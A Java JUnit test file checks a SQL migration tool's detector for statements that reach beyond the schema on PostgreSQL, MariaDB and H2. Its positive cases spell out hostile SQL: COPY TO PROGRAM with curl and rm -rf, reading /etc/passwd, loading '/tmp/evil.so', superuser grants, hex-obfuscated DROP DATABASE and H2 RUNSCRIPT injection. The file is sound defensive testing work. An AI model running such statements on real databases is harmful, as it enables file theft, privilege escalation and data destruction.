package dev.oneledger.ddl.internal.contract;

import static org.assertj.core.api.Assertions.assertThat;

import dev.oneledger.SqlDialect;
import dev.oneledger.internal.sql.SqlSplitter;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ForbiddenSearchTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "DROP DATABASE shop",
        "drop /* quietly */ database shop",
        "CREATE DATABASE shop",
        "ALTER DATABASE shop SET work_mem = '1GB'",
        "ALTER SYSTEM SET fsync = off",
        "COPY t TO PROGRAM 'curl evil'",
        "COPY t (a, b) FROM '/etc/passwd'",
        "COPY (SELECT 1) TO '/tmp/x'",
        "copy t\nfrom\nprogram $$rm -rf$$",
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT PG_CATALOG . Pg_Read_File ('/etc/passwd')",
        "SELECT \"pg_read_file\"('/etc/passwd')",
        "SELECT U&\"pg\\005Fread\\005Ffile\"('/etc/passwd')",
        "CREATE VIEW v AS SELECT pg_ls_dir('.')",
        "SELECT lo_export(1, '/tmp/x')",
        "SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)",
        "SELECT ext.dblink_exec('host=x', 'DROP TABLE t')",
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
        "SELECT pg_reload_conf()",
        "CREATE ROLE boss SUPERUSER",
        "ALTER USER boss WITH SUPERUSER",
        "CREATE ROLE r IN ROLE pg_execute_server_program",
        "GRANT pg_read_server_files TO app",
        "CREATE LANGUAGE plpython3u",
        "CREATE FUNCTION f() RETURNS int LANGUAGE plperlu AS 'x'",
        "CREATE FUNCTION f() RETURNS int AS '/tmp/evil.so', 'f' LANGUAGE C",
        "LOAD '/tmp/evil.so'",
        "CREATE EXTENSION IF NOT EXISTS file_fdw",
        "CREATE EXTENSION \"dblink\"",
        "CREATE TABLESPACE s LOCATION '/tmp'",
        "CREATE SUBSCRIPTION s CONNECTION 'x' PUBLICATION p",
        "UPDATE pg_catalog.pg_class SET relname = 'x'",
        "DO $$ BEGIN DROP DATABASE shop; END $$",
        "DO $$ BEGIN EXECUTE 'DROP DATABASE shop'; END $$",
        "DO $$ BEGIN EXECUTE 'DROP DATA' || 'BASE shop'; END $$",
        "DO $a$ BEGIN EXECUTE $b$ COPY t TO PROGRAM 'x' $b$; END $a$",
        "DO 'BEGIN EXECUTE ''ALTER SYSTEM SET fsync = off''; END'",
        "DO $$ DECLARE s text := 'DROP DATABASE shop'; BEGIN EXECUTE s; END $$",
        "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN"
            + " IF true THEN COPY t TO PROGRAM 'x'; END IF; END $$"
      })
  void what_reaches_beyond_the_schema_is_found_on_postgresql(String sql) {
    assertThat(found(sql, SqlDialect.POSTGRESQL)).isNotEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "ALTER TABLE t ADD COLUMN copy_program text",
        "CREATE TABLE database (system text, load int)",
        "INSERT INTO notes VALUES ('DROP DATABASE shop')",
        "SELECT 1 -- DROP DATABASE shop",
        "SELECT 1 /* ALTER SYSTEM SET x = 1 */",
        "COPY t FROM STDIN",
        "COPY t TO STDOUT",
        "CREATE ROLE app NOSUPERUSER NOLOGIN",
        "CREATE ROLE app",
        "GRANT SELECT ON t TO app",
        "CREATE EXTENSION pg_trgm",
        "CREATE LANGUAGE plpgsql",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
        "CREATE FUNCTION app.pg_read_file() RETURNS int LANGUAGE sql AS 'SELECT 1'",
        "SELECT app.pg_read_file()",
        "SELECT \"PG_READ_FILE\"()",
        "INSERT INTO dblink (a) VALUES (1)",
        "CREATE TABLE pg_ls_dir (a int)",
        "REVOKE EXECUTE ON FUNCTION pg_read_file(text) FROM PUBLIC",
        "DO $$ BEGIN INSERT INTO log VALUES ('DROP DATABASE shop'); END $$",
        "COMMENT ON TABLE t IS 'ALTER SYSTEM'"
      })
  void a_near_miss_is_none_on_postgresql(String sql) {
    assertThat(found(sql, SqlDialect.POSTGRESQL)).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "DROP DATABASE shop",
        "CREATE SCHEMA IF NOT EXISTS shop",
        "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t",
        "SELECT * FROM t INTO OUTFILE '/tmp/x'",
        "SELECT a FROM t INTO DUMPFILE '/tmp/x'",
        "INSTALL PLUGIN x SONAME 'x.so'",
        "CREATE FUNCTION f RETURNS STRING SONAME 'x.so'",
        "SHUTDOWN",
        "SET GLOBAL max_connections = 1",
        "SET @@GLOBAL.max_connections = 1",
        "GRANT SUPER ON *.* TO x",
        "GRANT ALL PRIVILEGES ON *.* TO x",
        "SELECT load_file('/etc/passwd')",
        "UPDATE mysql.user SET host = '%'",
        "/*!50000 DROP DATABASE shop */",
        "CREATE PROCEDURE p() BEGIN DROP DATABASE shop; END",
        "EXECUTE IMMEDIATE 'DROP DATABASE shop'",
        "EXECUTE IMMEDIATE concat('DROP ', 'DATABASE shop')",
        "PREPARE p FROM 'DROP DATABASE shop'",
        "SET @s = 'DROP DATABASE shop'",
        "SET sql_notes = 0, @s = 'DROP DATABASE shop'",
        "SELECT @s := 'DROP DATABASE shop'",
        "SELECT concat('DROP ', 'DATABASE shop') INTO @s",
        "SET @s = concat('DROP ', 'DATABASE ', @name)",
        "SET @s = x'44524F502044415441424153452073686F70'",
        "SET @s = 0x44524F502044415441424153452073686F70",
        "SET @s = unhex('44524F50')",
        "SET @s = 'SHUTDOWN'",
        "TRUNCATE TABLE mysql.user",
        "TRUNCATE mysql.tables_priv",
        "DROP TABLE mysql.plugin",
        "ALTER TABLE mysql.event ADD COLUMN a int",
        "INSERT mysql.db VALUES (1)",
        "INSERT IGNORE INTO mysql.db VALUES (1)",
        "REPLACE mysql.db VALUES (1)",
        "RENAME TABLE t TO u, mysql.db TO gone",
        "UPDATE t, mysql.db SET t.a = 1",
        "UPDATE t JOIN `mysql`.db SET t.a = 1",
        "DELETE mysql.db FROM mysql.db JOIN t",
        "SELECT authentication_string FROM mysql.user",
        "LOAD /*!50000 DATA */ INFILE '/etc/passwd' INTO TABLE t",
        "/*M!100100 SET GLOBAL general_log = 1 */",
        "SET @a = 1, GLOBAL max_connections = 1",
        "CREATE USER app IDENTIFIED BY 'x'",
        "ALTER USER app IDENTIFIED BY PASSWORD '*0'",
        "CREATE USER app IDENTIFIED VIA mysql_native_password USING '*0'",
        "SET PASSWORD FOR app = PASSWORD('x')",
        "CREATE TABLE t (a int) ENGINE=FEDERATED CONNECTION='mysql://x/y/z'",
        "CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO SET GLOBAL general_log = 1",
        "CREATE PROCEDURE p() SHUTDOWN",
        "BEGIN NOT ATOMIC KILL 5; END",
        "SET SESSION sql_mode = 'ANSI_QUOTES'",
        "\\! rm -rf /",
        "USE mysql"
      })
  void what_reaches_beyond_the_schema_is_found_on_mariadb(String sql) {
    assertThat(found(sql, SqlDialect.MARIADB)).isNotEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "INSERT INTO notes VALUES (\"DROP DATABASE shop\")",
        "CREATE TABLE shutdown (`global` int)",
        "SET SESSION sql_mode = ''",
        "GRANT ALL PRIVILEGES ON shop.* TO x",
        "SELECT 1 /* DROP DATABASE shop */",
        "INSERT INTO notes VALUES ('PREPARE p FROM x'), ('SHUTDOWN')",
        "CREATE TABLE t (`mysql` int, kill_switch int, state enum('shutdown', 'DROP DATABASE x'))",
        "INSERT INTO t SELECT mysql.a FROM app.mysql",
        "SET @s = 'SELECT 1'",
        "CREATE PROCEDURE p() BEGIN INSERT INTO log VALUES ('DROP DATABASE shop'); END",
        "CREATE PROCEDURE p() BEGIN SIGNAL SQLSTATE '45000' SET MESSAGE_TEXT = 'DROP DATABASE'; END",
        "CREATE USER app IDENTIFIED VIA unix_socket",
        "SET sql_mode = 'NO_AUTO_VALUE_ON_ZERO'",
        "CREATE TABLE t (a int) ENGINE=InnoDB"
      })
  void a_near_miss_is_none_on_mariadb(String sql) {
    assertThat(found(sql, SqlDialect.MARIADB)).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "CREATE ALIAS f FOR \"java.lang.System.exit\"",
        "CREATE ALIAS f AS $$ void f() { } $$",
        "CREATE TRIGGER t BEFORE INSERT ON x AS $$ source $$",
        "RUNSCRIPT FROM '/tmp/x.sql'",
        "SCRIPT TO '/tmp/x.sql'",
        "CALL CSVWRITE('/tmp/x.csv', 'SELECT 1')",
        "SELECT file_read('/etc/passwd')",
        "SHUTDOWN",
        "DROP ALL OBJECTS DELETE FILES",
        "CREATE LINKED TABLE t('', 'jdbc:x', '', '', 't')",
        "CREATE USER boss PASSWORD 'x' ADMIN",
        "CREATE USER app PASSWORD 'x'",
        "ALTER USER app SET PASSWORD 'x'",
        "SCRIPT",
        "CREATE LINKED TABLE t('', 'jdbc:h2:mem:;INIT=RUNSCRIPT FROM ''x''', '', '', 't')",
        "CALL LINK_SCHEMA('a', '', 'jdbc:x', '', '', 'b')",
        "INSERT INTO t SELECT * FROM CSVREAD('/etc/passwd')",
        "CREATE AGGREGATE a FOR 'app.Aggregate'",
        "CREATE AGGREGATE IF NOT EXISTS a FOR 'app.Aggregate'",
        "CREATE TRIGGER t BEFORE INSERT ON x CALL 'javax.script.ScriptEngineManager'",
        "CREATE TRIGGER t BEFORE INSERT ON x CALL 'app.Trigger'",
        "CREATE OR REPLACE FORCE TRIGGER IF NOT EXISTS t AFTER DELETE ON x FOR EACH ROW QUEUE 10 CALL \"app.Trigger\"",
        "EXECUTE IMMEDIATE 'CREATE TRIGGER t BEFORE INSERT ON x CALL ''app.Trigger'''",
        "CREATE TABLE t (a int) ENGINE \"app.Engine\"",
        "EXECUTE IMMEDIATE 'SHUTDOWN'",
        "SET DATABASE_EVENT_LISTENER 'app.Listener'",
        "DROP TABLE INFORMATION_SCHEMA.SETTINGS"
      })
  void what_reaches_beyond_the_schema_is_found_on_h2(String sql) {
    assertThat(found(sql, SqlDialect.H2)).isNotEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "DROP TRIGGER IF EXISTS t",
        "CREATE TABLE trigger (call varchar DEFAULT 'app.Trigger')",
        "CREATE VIEW calls AS SELECT trigger, call FROM x",
        "INSERT INTO notes VALUES ('CREATE TRIGGER t BEFORE INSERT ON x CALL ''app.Trigger''')",
        "INSERT INTO notes VALUES ('SHUTDOWN')",
        "CREATE TABLE script (admin int, password varchar)",
        "SET LOCK_TIMEOUT 1000",
        "SELECT * FROM INFORMATION_SCHEMA.TABLES",
        "ALTER TABLE t ADD COLUMN csvread int"
      })
  void a_near_miss_is_none_on_h2(String sql) {
    assertThat(found(sql, SqlDialect.H2)).isEmpty();
  }

  @Test
  void a_statement_prepared_from_a_variable_is_a_note_on_mariadb() {
    assertThat(Findings.notJudged("PREPARE p FROM @s", SqlDialect.MARIADB))
        .contains("Something is executed here that only the run tells.");
  }

  private static List<Forbidden> found(String sql, SqlDialect dialect) {
    return SqlSplitter.split(sql, dialect).statements().stream()
        .flatMap(each -> ForbiddenSearch.in(each, dialect, Set.of("oneledger")).found().stream())
        .toList();
  }
}
